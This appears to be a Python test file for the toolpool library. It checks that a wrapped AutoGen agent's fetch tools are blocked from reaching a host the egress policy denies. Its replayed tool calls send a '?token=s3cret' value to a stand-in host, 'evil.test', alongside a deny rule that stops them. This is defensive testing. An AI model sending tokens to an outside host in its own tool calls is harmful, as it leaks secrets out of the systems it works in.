"""A wrapped AutoGen agent whose tools fetch the URL the model gives them: a URL whose name
resolves (through the test's resolver hook) to an address the egress policy forbids becomes
the call's error result with toolpool's text; the run completes, the allowed call succeeds."""

from __future__ import annotations

import httpx
from autogen_agentchat.agents import AssistantAgent
from autogen_agentchat.messages import ToolCallExecutionEvent

import toolpool
from tests._support.autogen_replay import replay_model
from toolpool.autogen import wrap
from toolpool.testing import Downstream, HostMap


async def fetch_url(url: str) -> str:
    """Fetch a web page (async tool, its own httpx.AsyncClient)."""
    async with httpx.AsyncClient() as client:
        r = await client.get(url)
    return f"{r.status_code} {r.json()['path']}"


def fetch_url_sync(url: str) -> str:
    """Fetch a web page (sync tool, run in a worker thread)."""
    with httpx.Client() as client:
        r = client.get(url)
    return f"{r.status_code} {r.json()['path']}"


async def test_a_refused_address_becomes_the_calls_error_result(downstream: Downstream) -> None:
    port = downstream.address("crm")[1]
    names = HostMap({"ok.test": "127.0.0.1", "evil.test": "127.0.0.2"})
    egress = toolpool.Egress(deny=["127.0.0.2"], resolver=names)
    turn = [
        (tool, {"url": f"http://{host}.test:{port}/{host}?token=s3cret"})
        for tool in ("fetch_url", "fetch_url_sync")
        for host in ("ok", "evil")
    ]
    async with toolpool.Pool(egress=egress, warmup=0) as pool:
        agent = wrap(
            AssistantAgent(
                "reader",
                model_client=replay_model(turn, "done"),
                tools=[fetch_url, fetch_url_sync],
                reflect_on_tool_use=True,
            ),
            pool,
        )
        with toolpool.auth_context(toolpool.AuthContext(tenant="acme")):
            result = await agent.run(task="read")
        denied = pool.destination(f"http://evil.test:{port}").egress_denied
    results = [
        r for m in result.messages if isinstance(m, ToolCallExecutionEvent) for r in m.content
    ]
    assert sorted(r.content for r in results if not r.is_error) == ["200 /ok", "200 /ok"]
    errors = sorted((r.name, r.content) for r in results if r.is_error)
    assert errors == [
        (
            name,
            f"tool {name!r} could not run: address 127.0.0.2 (host 'evil.test') is not "
            f"allowed by the egress policy (rule deny); do not retry it",
        )
        for name in ("fetch_url", "fetch_url_sync")
    ]
    assert denied == {"deny": 2}
